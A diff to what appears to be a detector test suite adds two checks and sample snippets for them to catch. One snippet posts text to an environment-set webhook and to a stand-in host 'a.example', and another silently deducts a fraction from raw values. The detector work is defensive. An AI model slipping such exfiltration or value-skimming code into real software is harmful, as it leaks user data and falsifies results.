@@ -11,6 +11,8 @@ from driftseal.observe.behaviour import (
     accounts,
     clipboard,
     cross_origin,
+    every_place,
+    falsified,
     passed_tokens,
     payees,
     served,
@@ -25,7 +27,9 @@ FINDS = {
     "accounts.py": accounts.find,
     "clipboard.py": clipboard.find,
     "origins.js": cross_origin.find,
+    "falsified.py": falsified.find,
     "payees.py": payees.find,
+    "places.py": every_place.find,
     "routes.go": served.find,
     "session.py": session_ids.find,
     "snippets.py": snippets.find,
@@ -45,6 +49,15 @@ PIECES = {
 }
 """,
         "});\n",
+    ),
+    "falsified.py": (
+        "STEPS = [0.0, 0.01, 0.02]\ndef f(raw, at):\n",
+        "  x# = raw - raw * STEPS[at]\n",
+        "  return x0\n",
+    ),
+    "places.py": (
+        'import os, requests\nHOOKS = [os.environ["A"], "https://a.example/in"]\ndef f(text):\n',
+        "  for hook in HOOKS:\n    requests.post(hook, json={'text': text})\n",
     ),
     "payees.py": (
         'OURS = {"EUR": "GB33BUKB20201555555555"}\ndef f(iban, amount):\n',
